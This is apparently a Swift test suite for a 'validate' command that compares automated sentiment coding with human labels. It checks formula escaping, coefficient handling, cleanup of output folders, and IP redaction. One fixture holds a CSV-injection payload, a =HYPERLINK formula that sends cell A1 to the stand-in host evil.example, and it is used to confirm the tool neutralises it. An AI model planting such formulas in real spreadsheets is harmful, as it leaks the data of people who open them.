import Foundation
import TestSupport
import Testing

/// Review r8a: `validate` findings, end to end.
@Suite struct ValidateReviewR8aTests {
  static func run(_ export: String, _ human: String, in folder: URL) throws -> (TestSupport.ProcessResult, URL) {
    let exportPath = try ReviewFixSupport.write(export, "export.csv", in: folder)
    let humanPath = try ReviewFixSupport.write(human, "codes.csv", in: folder)
    let out = folder.appendingPathComponent("out")
    let result = try TestSupport.runVerbatim([
      "validate", exportPath, "--human", humanPath, "--no-tags", "--out", out.path, "--threads", "1",
    ])
    return (result, out)
  }

  // Issue 8: customer text that starts with = or + is written with a leading apostrophe (OWASP CSV
  // Injection) so a spreadsheet shows it instead of running it.
  @Test func disagreementsCSVNeutralisesFormulas() throws {
    let folder = try TestSupport.temporaryDirectory()
    let (result, out) = try Self.run(
      "id,comment\nr1,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\") awful\"\nr2,\"+1 great\"\n",
      "item,coder,label\nr1:comment,gold,positive\nr2:comment,gold,negative\n", in: folder)
    #expect(result.status == 0, "\(result.stderrText)")
    let csv = try String(contentsOf: out.appendingPathComponent("disagreements.csv"), encoding: .utf8)
    #expect(csv.contains("\"'=HYPERLINK("), "\(csv)")
    #expect(csv.contains(",'+1 great,"), "\(csv)")
    #expect(!csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK") && !csv.contains(",+1 great"))
  }

  // Issue 9: a human label outside negative < neutral < positive ("mixed") has no place in the ordinal
  // order: the order-dependent coefficients are null with a reason (as `agree` does for undeclared text
  // labels), while the nominal ones are still computed.
  @Test func extraHumanLabelsWithholdOrderDependentCoefficients() throws {
    let folder = try TestSupport.temporaryDirectory()
    let (result, out) = try Self.run(
      "id,comment\nr1,\"terrible service, waited forever\"\nr2,\"Great value and quality\"\n"
        + "r3,\"good food but rude staff\"\nr4,\"ok\"\nr5,\"awful awful\"\nr6,\"love it\"\n",
      "item,coder,label\nr1:comment,gold,negative\nr2:comment,gold,positive\nr3:comment,gold,mixed\n"
        + "r4:comment,gold,neutral\nr5:comment,gold,negative\nr6:comment,gold,positive\n", in: folder)
    #expect(result.status == 0, "\(result.stderrText)")
    let data = try Data(contentsOf: out.appendingPathComponent("agreement.json"))
    let object = try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
    for name in ["weighted_kappa_linear", "weighted_kappa_quadratic", "krippendorff_alpha_ordinal"] {
      let entry = try ReviewFixSupport.coefficient(object, name)
      #expect(entry["value"] is NSNull, "\(name)")
      #expect((entry["reason"] as? String)?.contains("mixed") == true, "\(name)")
    }
    #expect(try ReviewFixSupport.coefficient(object, "cohen_kappa")["value"] is Double)
  }

  // Issue 15: an unknown metric is refused before the export is coded, and human ids missing from the
  // export leave no partial --out folder behind.
  @Test func usageAndDataErrorsLeaveNoOutputFolder() throws {
    let folder = try TestSupport.temporaryDirectory()
    let export = try ReviewFixSupport.write("id,comment\nr1,good\nr2,bad\n", "export.csv", in: folder)
    let human = try ReviewFixSupport.write(
      "item,coder,label\nr1:comment,gold,positive\nr9:comment,gold,negative\n", "codes.csv", in: folder)
    let out = folder.appendingPathComponent("out")
    let unknown = try TestSupport.runVerbatim([
      "validate", export, "--human", human, "--no-tags", "--min", "bogus=1", "--out", out.path,
    ])
    #expect(unknown.status == 2)
    #expect(unknown.stderrText.contains("unknown metric"), "\(unknown.stderrText)")
    // QA review 44 (B1): the folder holds the error report only.
    #expect(ValidateFailureReportTests.holdsOnlyTheErrorReport(out, message: "unknown metric"))
    try FileManager.default.removeItem(at: out)
    let missing = try TestSupport.runVerbatim(["validate", export, "--human", human, "--no-tags", "--out", out.path])
    #expect(missing.status == 65)
    #expect(ValidateFailureReportTests.holdsOnlyTheErrorReport(out, message: "r9:comment"))
  }

  // Under --redact, segment values reach the report as coded.jsonl shows them: an identifying field
  // (an IP address) is "[REDACTED]", never the value (its segment rows leaked it).
  @Test func redactedSegmentValuesInTheReport() throws {
    let folder = try TestSupport.temporaryDirectory()
    let exportPath = try ReviewFixSupport.write(
      "id,comment,ipAddress,channel\nr1,great service,203.0.113.5,web\nr2,awful wait,203.0.113.6,app\n",
      "export.csv", in: folder)
    let humanPath = try ReviewFixSupport.write(
      "item,coder,label\nr1:comment,gold,positive\nr2:comment,gold,negative\n", "codes.csv", in: folder)
    let out = folder.appendingPathComponent("out")
    let result = try TestSupport.runVerbatim([
      "validate", exportPath, "--human", humanPath, "--no-tags", "--out", out.path, "--threads", "1", "--redact",
      "--segment", "ipAddress", "--segment", "channel",
    ])
    #expect(result.status == 0, "\(result.stderrText)")
    for file in ["report.html", "agreement.json", "disagreements.csv", "coded.jsonl"] {
      let text = try String(contentsOf: out.appendingPathComponent(file), encoding: .utf8)
      #expect(!text.contains("203.0.113"), "\(file) leaks an IP address")
    }
    let report = try String(contentsOf: out.appendingPathComponent("report.html"), encoding: .utf8)
    #expect(report.contains("[REDACTED]") && report.contains("web"))
  }

  // Errors found only after coding (an unknown --reference or --segment) leave no partial --out
  // folder (review r9: coded.jsonl was left without a manifest).
  @Test func errorsFoundAfterCodingLeaveNoOutputFolder() throws {
    let folder = try TestSupport.temporaryDirectory()
    let exportPath = try ReviewFixSupport.write("id,comment\nr1,great\nr2,awful\n", "export.csv", in: folder)
    let humanPath = try ReviewFixSupport.write(
      "item,coder,label\nr1:comment,gold,positive\nr2:comment,gold,negative\n", "codes.csv", in: folder)
    for extra in [["--reference", "nobody"], ["--segment", "nosuch"]] {
      let out = folder.appendingPathComponent("out-\(extra[1])")
      let result = try TestSupport.runVerbatim(
        ["validate", exportPath, "--human", humanPath, "--no-tags", "--out", out.path, "--threads", "1"] + extra)
      #expect(result.status == 2, "\(extra): \(result.stderrText)")
      #expect(ValidateFailureReportTests.holdsOnlyTheErrorReport(out), "\(extra) left more in \(out.path)")
    }
  }
}

extension ValidateReviewR8aTests {
  /// QA review 17: a disagreement where no lexicon term matched says so (the explanation was empty).
  @Test func aDisagreementWithNoTermSaysSo() throws {
    let folder = try TestSupport.temporaryDirectory()
    let (result, out) = try Self.run(
      "id,comment\nr1,\"they gave me 28 tablets instead of 56\"\nr2,\"awful\"\n",
      "item,coder,label\nr1:comment,gold,negative\nr2:comment,gold,positive\n", in: folder)
    #expect(result.status == 0, "\(result.stderrText)")
    let csv = try String(contentsOf: out.appendingPathComponent("disagreements.csv"), encoding: .utf8)
    let rows = csv.split(whereSeparator: \.isNewline)  // CRLF (RFC 4180) is one Character
    let r1 = try #require(rows.first { $0.contains("28 tablets") })
    #expect(r1.contains("no lexicon term matched"), "\(r1)")
    let r2 = try #require(rows.first { $0.hasPrefix("r2") })
    #expect(!r2.contains("no lexicon term matched") && r2.contains("\"awful\""), "\(csv)")
  }
}
